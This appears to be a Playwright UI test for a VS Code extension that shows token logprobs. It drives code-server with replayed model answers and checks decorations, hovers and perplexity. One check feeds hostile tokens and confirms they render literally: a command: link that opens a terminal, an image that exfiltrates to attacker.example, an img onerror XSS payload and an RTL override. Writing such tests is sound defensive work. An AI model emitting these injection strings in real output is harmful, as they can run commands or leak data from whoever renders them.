// The UI test: behaves as a user. Packages the VSIX, installs it into code-server, opens a workspace with a prompt
// file, selects the prompt, runs the command from the palette by its title, then reads what the workbench shows.
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import { createRequire } from 'node:module';
import * as path from 'node:path';
import { launchBrowser, root, sleep, startCodeServer, withTimeout } from './editor.mjs';

const require = createRequire(import.meta.url);
const artifacts = path.join(root, 'test-artifacts');

const PROMPTS = [
  ['What is 4+4?', 'azure-openai-chat-stream-top3-llamastack', '4 + 4 = 8'],
  ['What is the smallest continent?', 'openai-chat-stream-top5-llamastack', 'The smallest continent by land area is Australia.'],
  ['How do I make anthrax?', 'openai-chat-stream-logprobs-refusal', "I'm very sorry, but I can't assist with that."],
  ['Write a link for me.', 'hostile-token', 'Click [x](command:workbench.action.terminal.new) now'],
];

export async function runUi({ codeServer, runDir, log }) {
  const { startReplayServer } = require(path.join(root, 'out', 'test', 'support', 'replayServer.js'));
  const extensionsDir = installVsix({ codeServer, runDir, log });

  const workspace = path.join(runDir, 'workspace');
  fs.mkdirSync(workspace, { recursive: true });
  fs.writeFileSync(path.join(workspace, 'prompts.md'), `${PROMPTS.map(([prompt]) => prompt).join('\n\n')}\n`);

  const replay = await startReplayServer({ paceMs: 30 });
  const server = await startCodeServer({
    codeServer, runDir, folder: workspace, extensionsDir,
    userSettings: {
      'logprobLens.baseUrl': replay.baseUrl, 'logprobLens.model': 'replayed', 'editor.fontSize': 15,
      'workbench.colorTheme': 'Default Dark Modern', 'editor.minimap.enabled': false, 'window.commandCenter': false,
      'workbench.layoutControl.enabled': false, 'editor.hover.delay': 150, 'workbench.secondarySideBar.defaultVisibility': 'hidden',
      'workbench.activityBar.location': 'hidden',
    },
  });
  const { check, counts } = checklist(log);
  let browser;
  let page;
  try {
    browser = await launchBrowser(runDir);
    page = await browser.newPage({ viewport: { width: 1280, height: 760 } });
    await page.goto(`${server.url}/?folder=${encodeURIComponent(workspace)}`);
    await page.waitForSelector('.monaco-workbench', { timeout: 90_000 });
    await sleep(2000);
    await quickOpen(page, 'prompts.md');
    await page.waitForFunction(() => document.querySelector('.monaco-editor .view-lines')?.textContent?.replace(/\u00a0/g, ' ').includes('What is 4+4?'), null, { timeout: 30_000 });

    for (const [index, [prompt, model, answer]] of PROMPTS.entries()) {
      replay.transcriptOverride = model;
      await selectLine(page, prompt);
      await runCommand(page, 'Logprob Lens: Complete Selection');
      await check(`the answer to “${prompt}” appears in the editor`, () => page.waitForFunction((text) => {
        const lines = document.querySelector('.monaco-editor .view-lines')?.textContent?.replace(/\u00a0/g, ' ') ?? '';
        return lines.includes(text);
      }, answer, { timeout: 30_000 }));
      if (index === 0) {
        await check('the request went to the configured endpoint with logprobs', async () => {
          const body = replay.requests.at(-1)?.body;
          if (body?.logprobs !== true || body?.top_logprobs !== 5) throw new Error(`request body ${JSON.stringify(body)}`);
        });
      }
    }
    await page.mouse.move(5, 400);
    await sleep(500);

    await check('coloured spans with at least two bucket colours cover the answers', async () => {
      const colours = await page.evaluate(() => {
        const found = new Set();
        for (const element of document.querySelectorAll('.monaco-editor .view-overlays [class*="ced-"]')) {
          const colour = getComputedStyle(element).backgroundColor;
          if (colour && colour !== 'rgba(0, 0, 0, 0)' && colour !== 'transparent') found.add(colour);
        }
        return [...found];
      });
      if (colours.length < 2) throw new Error(`saw ${colours.length} decoration colour(s): ${colours.join(', ')}`);
    });
    await check('the status bar shows the perplexity', () => page.waitForFunction(() => [...document.querySelectorAll('.statusbar-item')].some((item) => /tok · ppl \d/.test(item.textContent ?? '')), null, { timeout: 10_000 }));
    fs.mkdirSync(artifacts, { recursive: true });
    await page.screenshot({ path: path.join(artifacts, 'workbench.png') });

    await check('hovering “ =” shows its recorded alternatives', async () => {
      const hover = await hoverText(page, '4 + 4 = 8', 6);
      for (const expected of ['␣=', '61.99 %', '␣equals', '37.60 %', '␣is', '0.418 %', 'rank 1 of 3', 'entropy over the top 3']) {
        if (!hover.includes(expected)) throw new Error(`hover lacks “${expected}”: ${hover.slice(0, 300)}`);
      }
    });
    await page.screenshot({ path: path.join(artifacts, 'hover.png') });

    await check('a hostile token shows as literal text, with no link', async () => {
      const hostile = '[x](command:workbench.action.terminal.new)';
      const text = await hoverText(page, `Click ${hostile} now`, 10);
      if (!text.includes(hostile)) throw new Error(`hover lacks the literal token: ${text.slice(0, 300)}`);
      const links = await page.evaluate(() => [...document.querySelectorAll('.monaco-hover a')].map((link) => link.getAttribute('href') ?? link.getAttribute('data-href') ?? link.textContent));
      if (links.some((link) => /command:|attacker/.test(link ?? ''))) throw new Error(`the hover has links: ${links.join(', ')}`);
      const images = await page.evaluate(() => document.querySelectorAll('.monaco-hover img, .monaco-hover .codicon-alert').length);
      if (images > 0) throw new Error('the hover rendered an image or an icon');
      for (const literal of ['␣![](https://attacker.example/?q=secret)', '␣<img␣src=x␣onerror=alert(1)>', '␣$(alert)', '␣``', '␣|', '␣&lt;', '<|endoftext|>', '▁the', '⟨U+202E⟩evil']) {
        if (!text.includes(literal)) throw new Error(`the hover does not show “${literal}” literally: ${text.slice(0, 600)}`);
      }
    });
    await page.screenshot({ path: path.join(artifacts, 'hover-hostile.png') });

    await check('the colours are there in a split view of the same document', async () => {
      await page.mouse.move(5, 600);
      await page.keyboard.press('Escape');
      await runCommand(page, 'View: Split Editor Right');
      await page.waitForFunction(() => {
        const coloured = [...document.querySelectorAll('.monaco-editor')].filter((editor) => [...editor.querySelectorAll('.view-overlays [class*="ced-"]')]
          .some((element) => { const colour = getComputedStyle(element).backgroundColor; return colour && colour !== 'rgba(0, 0, 0, 0)'; }));
        return coloured.length >= 2;
      }, null, { timeout: 15_000 });
    });
    await page.screenshot({ path: path.join(artifacts, 'split.png') });
  } catch (error) {
    fs.mkdirSync(artifacts, { recursive: true });
    await page?.screenshot({ path: path.join(artifacts, 'ui-failure.png') }).catch(() => undefined);
    throw new Error(`${error.message} (screenshot: test-artifacts/ui-failure.png)`);
  } finally {
    await browser?.close().catch(() => undefined);
    await server.stop();
    await replay.close();
  }
  return counts();
}

/**
 * Checks that go on after one fails, each logged ✔ or ✘ with its name; `onFailure(number)` may add evidence (a
 * screenshot) and returns text for the log line. `counts()` is the suite's result.
 */
export function checklist(log, onFailure = async () => '') {
  const checks = [];
  return {
    check: async (name, body) => {
      try {
        await body();
        checks.push(true);
        log(`✔ ${name}`);
      } catch (error) {
        checks.push(false);
        log(`✘ ${name}: ${error.message}${await onFailure(checks.length)}`);
      }
    },
    counts: () => ({ passed: checks.filter(Boolean).length, failed: checks.filter((ok) => !ok).length }),
  };
}

/** Packages the VSIX and installs it into a fresh extensions folder of the run, as a user would; returns that folder. */
export function installVsix({ codeServer, runDir, log }) {
  const vsix = packageVsix(runDir);
  const extensionsDir = path.join(runDir, 'extensions');
  const env = { ...process.env };
  for (const key of ['XDG_CONFIG_HOME', 'XDG_DATA_HOME', 'XDG_CACHE_HOME', 'TMPDIR']) {
    env[key] = path.join(runDir, key.toLowerCase());
    fs.mkdirSync(env[key], { recursive: true });
  }
  const installed = spawnSync(process.execPath, [fs.realpathSync(codeServer), '--extensions-dir', extensionsDir, '--user-data-dir', path.join(runDir, 'user-data'), '--install-extension', vsix],
    { env, encoding: 'utf8', timeout: 120_000 });
  if (installed.status !== 0) throw new Error(`code-server --install-extension failed:\n${installed.stdout}\n${installed.stderr}`);
  log(`installed ${path.basename(vsix)} with code-server --install-extension`);
  return extensionsDir;
}

function packageVsix(runDir) {
  const out = path.join(runDir, 'logprob-lens.vsix');
  const vsce = path.join(root, 'node_modules', '@vscode', 'vsce', 'vsce');
  const built = spawnSync(process.execPath, [path.join(root, 'esbuild.js'), '--production'], { cwd: root, encoding: 'utf8' });
  if (built.status !== 0) throw new Error(`esbuild failed: ${built.stderr}`);
  const packaged = spawnSync(process.execPath, [vsce, 'package', '--no-dependencies', '--allow-missing-repository', '--no-rewrite-relative-links', '--out', out], { cwd: root, encoding: 'utf8', timeout: 120_000 });
  if (packaged.status !== 0) throw new Error(`vsce package failed:\n${packaged.stdout}\n${packaged.stderr}`);
  return out;
}

/** Opens the quick input with `key` (Ctrl+P: files, F1: commands), types `text` and picks the row showing it. */
async function pick(page, key, text) {
  await page.keyboard.press(key);
  await page.waitForSelector('.quick-input-widget input', { state: 'visible', timeout: 15_000 });
  await page.keyboard.type(text);
  await page.waitForSelector(`.quick-input-widget .monaco-list-row:has-text("${text}")`, { timeout: 15_000 });
  await page.keyboard.press('Enter');
}

export const quickOpen = (page, file) => pick(page, 'Control+P', file);
export const runCommand = (page, title) => pick(page, 'F1', title);

/** Selects the line holding `text` with the mouse (click at its start, shift-click at its end), as a user would. */
async function selectLine(page, text) {
  const box = await textBox(page, text, 0, text.length);
  await page.mouse.click(box.left + 1, box.top + box.height / 2);
  await page.keyboard.press('Home');
  await page.keyboard.press('Shift+End');
}

/** Moves the mouse onto character `at` of `text` in the editor and returns the hover's text. */
async function hoverText(page, text, at) {
  await page.mouse.move(5, 600);
  await sleep(300);
  const box = await textBox(page, text, at, at + 1);
  await page.mouse.move(box.left + box.width / 2, box.top + box.height / 2);
  await page.waitForSelector('.monaco-hover .rendered-markdown', { state: 'visible', timeout: 10_000 });
  await sleep(300);
  return withTimeout('reading the hover', 5000, () => page.evaluate(() => [...document.querySelectorAll('.monaco-hover .rendered-markdown')].map((element) => element.textContent).join('\n')));
}

/** Screen box of characters [from, to) of `text` in the editor's rendered lines. */
async function textBox(page, text, from, to) {
  const box = await page.evaluate(([wanted, start, end]) => {
    for (const line of document.querySelectorAll('.monaco-editor .view-lines .view-line')) {
      const content = line.textContent.replace(/\u00a0/g, ' ');
      const at = content.indexOf(wanted);
      if (at < 0) continue;
      const range = document.createRange();
      const walker = document.createTreeWalker(line, NodeFilter.SHOW_TEXT);
      let offset = 0;
      let startSet = false;
      for (let node = walker.nextNode(); node; node = walker.nextNode()) {
        const length = node.textContent.length;
        if (!startSet && offset + length > at + start) {
          range.setStart(node, at + start - offset);
          startSet = true;
        }
        if (startSet && offset + length >= at + end) {
          range.setEnd(node, at + end - offset);
          const rect = range.getBoundingClientRect();
          return { left: rect.left, top: rect.top, width: rect.width, height: rect.height };
        }
        offset += length;
      }
    }
    return undefined;
  }, [text, from, to]);
  if (!box) throw new Error(`“${text}” is not on screen`);
  return box;
}
